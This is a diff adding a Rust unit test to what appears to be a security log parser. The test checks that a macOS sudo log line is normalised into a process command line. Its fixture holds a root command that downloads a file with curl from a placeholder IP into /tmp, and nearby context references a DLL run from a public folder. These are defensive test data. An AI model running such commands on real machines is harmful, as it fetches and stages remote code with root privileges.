@@ -5143,6 +5143,17 @@ mod tests {
                 .unwrap()
                 .ends_with("/U C:\\Users\\Public\\x.dll")
         );
+        // A log whose process attribute only names the program that wrote it: its message (a
+        // unified-log sudo line) is the evidence.
+        let sudo = from_json(json!({"id": "l2", "type": "log", "attributes": {"host": "MBP-1",
+            "message": "sudo: rb : TTY=ttys002 ; PWD=/private/tmp ; USER=root ; COMMAND=/bin/bash -c curl -fsSL http://203.0.113.4/p -o /tmp/p",
+            "attributes": {"process": {"name": "sudo", "pid": 30118}, "subsystem": "com.apple.sudo"}}}), "x").unwrap();
+        assert!(
+            sudo.doc["process"]["command_line"]
+                .as_str()
+                .unwrap()
+                .starts_with("/bin/bash -c curl")
+        );
         // Classic engine events' detail with numeric character references.
         assert_eq!(
             xml_unescape("&#x9;HostApplication=a&#xD;&#xA;x&#60;&amp;#x9;"),
